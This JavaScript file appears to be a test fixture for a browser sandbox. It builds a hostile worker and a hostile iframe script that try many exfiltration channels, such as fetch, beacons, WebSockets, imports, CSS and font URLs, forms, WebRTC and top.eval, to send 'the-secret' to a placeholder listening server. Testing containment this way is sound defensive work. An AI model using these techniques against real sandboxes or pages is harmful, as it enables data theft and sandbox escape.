// What a hostile engine tries, as scripts for browsers. `{leak}` stands for the origin of the listening server, `{udp}` for its
// port for WebRTC. Each exit is a function that resolves or rejects; what counts is what arrives at the server.

/** Tries each exit, and returns what came back, by its name. */
const TRY_ALL = `
  const tryAll = async (exits) => {
    const answers = {};
    const soon = (text) => new Promise((resolve) => setTimeout(() => resolve(text), 2500));
    await Promise.all(Object.entries(exits).map(async ([name, attempt]) => {
      try {
        answers[name] = String(await Promise.race([attempt(), soon("no answer")])).slice(0, 80);
      } catch (thrown) {
        answers[name] = "blocked: " + String(thrown).slice(0, 80);
      }
    }));
    return answers;
  };
  const settles = (target, good, bad) => new Promise((resolve, reject) => {
    for (const name of good) target["on" + name] = () => resolve(name);
    for (const name of bad) {
      target["on" + name] = (event) => {
        event.preventDefault?.();
        reject(event.message ?? name);
      };
    }
  });
`;

/** The exits of a worker. */
const WORKER_EXITS = `
  const scope = globalThis;
  // The browser's own, whatever a sealed worker has in their place.
  const nativeFetch = (...args) => WorkerGlobalScope.prototype.fetch.call(scope, ...args);
  const NativeWorker = /native code/.test(String(Worker)) ? Worker : Object.getPrototypeOf(Worker);
  const blobUrl = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const EXITS = {
    fetch: () => nativeFetch("{leak}/fetch?the-secret"),
    "fetch without CORS": () => nativeFetch("{leak}/no-cors", { method: "POST", body: "the-secret", mode: "no-cors" }),
    "fetch that outlives": () => nativeFetch("{leak}/keepalive", { keepalive: true, mode: "no-cors" }),
    "the worker's own fetch": () => fetch("{leak}/page-fetch"),
    "a part with a query": () => fetch("{assets}worker.js?the-secret"),
    "a part that is none": () => fetch("{assets}the-secret.wasm"),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest();
      request.open("POST", "{leak}/xhr");
      const done = settles(request, ["load"], ["error"]);
      request.send("the-secret");
      return done;
    },
    "synchronous XMLHttpRequest": async () => {
      const request = new XMLHttpRequest();
      request.open("GET", "{leak}/sync-xhr", false);
      request.send();
      return request.status;
    },
    WebSocket: () => settles(new WebSocket("{leak}/ws".replace("http", "ws")), ["open"], ["error"]),
    WebTransport: () => new WebTransport("{leak}/wt".replace("http:", "https:")).ready,
    EventSource: () => settles(new EventSource("{leak}/es"), ["open"], ["error"]),
    sendBeacon: async () => navigator.sendBeacon("{leak}/beacon", "the-secret"),
    importScripts: async () => importScripts("{leak}/import-scripts.js"),
    "dynamic import": () => import("{leak}/import.js"),
    "import of JSON": () => import(blobUrl('import x from "{leak}/import.json" with { type: "json" }; export default x')),
    "static import in a Blob": () => import(blobUrl('import "{leak}/static-import.js"')),
    "nested worker of a URL": () => settles(new NativeWorker("{leak}/worker.js"), ["message"], ["error"]),
    "nested worker that requests": () =>
      settles(new NativeWorker(blobUrl('fetch("{leak}/nested", { mode: "no-cors" }).then(() => postMessage(0), (x) => { throw x; })')),
        ["message"], ["error"]),
    "nested worker that imports": () =>
      settles(new NativeWorker(blobUrl('importScripts("{leak}/nested-import.js"); postMessage(0)')), ["message"], ["error"]),
    "nested module worker": () =>
      settles(new NativeWorker(blobUrl('import "{leak}/module.js"; postMessage(0)'), { type: "module" }), ["message"], ["error"]),
    SharedWorker: () => settles(new SharedWorker("{leak}/shared.js").port, ["message"], ["error"]),
    "compiled while it loads": () => WebAssembly.compileStreaming(nativeFetch("{leak}/code.wasm")),
    "font of a URL": () => new FontFace("x", "url({leak}/font.woff2)").load(),
    "picture of a URL": () => nativeFetch("{leak}/picture.png", { mode: "no-cors" }).then((x) => x.blob()).then(createImageBitmap),
    "cache storage": async () => (await caches.open("x")).add("{leak}/cache"),
    "background fetch": async () => (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", "{leak}/background"),
    notification: async () => new Notification("x", { icon: "{leak}/icon.png" }),
    WebRTC: async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:{udp}" }] });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
      return new Promise(() => {});
    },
    "IndexedDB of the app": () => settles(indexedDB.open("the-secret"), ["success"], ["error"]),
    "files of the app": async () => (await (await navigator.storage.getDirectory()).getFileHandle("the-secret", { create: true })).kind,
    "channel to the app": async () => new BroadcastChannel("app").postMessage("the-secret"),
    "code for the page": async () => {
      const code = { type: "RAW", value: "fetch('{leak}/page-code', { mode: 'no-cors' })" };
      for (const port of globalThis.pagePorts) {
        port.onmessage = ({ data }) => data?.value?.postMessage?.({ id: "2", type: "APPLY", path: [], argumentList: [] });
        port.postMessage({ id: "1", type: "CONSTRUCT", path: ["constructor"], argumentList: [code] });
      }
      return new Promise(() => {});
    },
    "messages to the frame": async () => {
      DedicatedWorkerGlobalScope.prototype.postMessage?.call(scope, { start: 1 });
      return "sent";
    },
  };
`;

/** A worker that tries all exits with its first job, and answers with what came back. */
export const HOSTILE_WORKER = `${TRY_ALL}${WORKER_EXITS}
  addEventListener("message", async ({ data: { id, argumentList } }) => {
    const [, , page] = argumentList;
    globalThis.pagePorts = [page.value].filter((port) => port instanceof MessagePort);
    const message = JSON.stringify(await tryAll(EXITS));
    const value = { ok: false, error: { code: "internal_error", message, details: {} } };
    postMessage({ id, type: "RAW", value });
  }, { once: true });
`;

/** The exits that only a document has. */
const FRAME_EXITS = `
  const element = (name, properties) => {
    const made = Object.assign(document.createElement(name), properties);
    const done = settles(made, ["load", "loadeddata"], ["error"]);
    document.body.append(made);
    return done;
  };
  const styled = (text) => {
    document.head.append(Object.assign(document.createElement("style"), { textContent: text }));
    document.body.append(Object.assign(document.createElement("p"), { className: "styled", textContent: "x" }));
    return new Promise(() => {});
  };
  const EXITS = {
    "fetch of the frame": () => fetch("{leak}/frame-fetch", { mode: "no-cors" }),
    "sendBeacon of the frame": async () => navigator.sendBeacon("{leak}/frame-beacon", "the-secret"),
    picture: () => element("img", { src: "{leak}/img.png" }),
    style: () => element("link", { rel: "stylesheet", href: "{leak}/style.css" }),
    "picture of CSS": () => styled(".styled { background: url({leak}/css.png) }"),
    "font of CSS": () => styled("@font-face { font-family: x; src: url({leak}/css.woff2) } .styled { font-family: x }"),
    "style attribute": async () => { document.body.style.background = "url({leak}/attribute.png)"; },
    "font of the frame": () => new FontFace("x", "url({leak}/frame.woff2)").load(),
    script: () => element("script", { src: "{leak}/script.js" }),
    media: () => element("video", { src: "{leak}/video.mp4" }),
    "frame in the frame": () => element("iframe", { src: "{leak}/frame.html" }),
    object: () => element("object", { data: "{leak}/object.html" }),
    embed: () => element("embed", { src: "{leak}/embed.html" }),
    manifest: () => element("link", { rel: "manifest", href: "{leak}/manifest.json" }),
    prefetch: () => element("link", { rel: "prefetch", href: "{leak}/prefetch.js" }),
    preload: () => element("link", { rel: "preload", as: "image", href: "{leak}/preload.png" }),
    "module preload": () => element("link", { rel: "modulepreload", href: "{leak}/modulepreload.js" }),
    icon: () => element("link", { rel: "icon", href: "{leak}/icon.png" }),
    "new window": async () => open("{leak}/open.html"),
    form: async () => {
      const form = Object.assign(document.createElement("form"), { action: "{leak}/form", method: "post" });
      document.body.append(form);
      form.submit();
    },
    "form in a new window": async () => {
      const form = Object.assign(document.createElement("form"), { action: "{leak}/form-window", target: "_blank" });
      document.body.append(form);
      form.submit();
    },
    "link with a ping": async () => {
      const link = Object.assign(document.createElement("a"), { href: "{leak}/link", ping: "{leak}/ping", target: "_blank" });
      document.body.append(link);
      link.click();
    },
    "navigation of the page": async () => { top.location.href = "{leak}/top.html"; },
    "code for the page": async () => top.eval("fetch('{leak}/top-eval')"),
    // Chromium has no policy for it, so that it arrives. No code of an engine runs in the frame.
    "WebRTC of the frame": async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:{udp}" }] });
      connection.createDataChannel("x");
      await connection.setLocalDescription(await connection.createOffer());
      return new Promise(() => {});
    },
    preconnect: () => element("link", { rel: "preconnect", href: "{leak}" }),
    "frame worker of a URL": () => settles(new Worker("{leak}/frame-worker.js"), ["message"], ["error"]),
  };
  /** These reach a server with no policy of the frame to stop them. Only the page's policy, or none at all. */
  const UNSTOPPED = {
    "navigation of the frame": async () => { location.href = "{leak}/navigation?the-secret"; },
  };
`;

/** The script of a frame that tries all exits of a document, in place of the script of sealed.html. */
export const HOSTILE_FRAME = `${TRY_ALL}${FRAME_EXITS}
  addEventListener("load", async () => {
    const answers = await tryAll(EXITS);
    parent.postMessage({ answers }, "*");
    setTimeout(() => tryAll(UNSTOPPED), 100);
  });
`;
